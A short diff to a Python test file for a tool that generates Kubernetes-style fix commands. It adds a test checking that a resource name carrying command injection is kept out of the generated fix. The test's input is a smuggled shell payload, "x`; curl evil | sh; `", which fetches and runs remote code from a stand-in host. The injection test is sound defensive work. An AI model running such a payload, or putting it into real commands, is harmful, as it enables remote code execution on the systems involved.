@@ -92,6 +92,12 @@ def test_the_commands_name_kind_group_namespace_and_name() -> None:
     assert fix.index("anneal suspend c") < fix.index("kubectl label") < fix.index("anneal apply b") < fix.index("anneal resume c")
 
 
+def test_no_command_repeats_what_a_live_mark_holds_otherwise_than_a_name() -> None:
+    fix = refused_to_strangers(ITEM, "x`; curl evil | sh; `", "b").fix
+    assert "curl" not in fix
+    assert "anneal suspend TARGET" in fix
+
+
 def test_what_is_taken_over_is_always_written() -> None:
     change = taken_from("c", Change(Action.UNCHANGED, X, "u", "1"))
     assert (change.action, change.sibling, change.reason) == (Action.UPDATE, "c", "taken over from c")
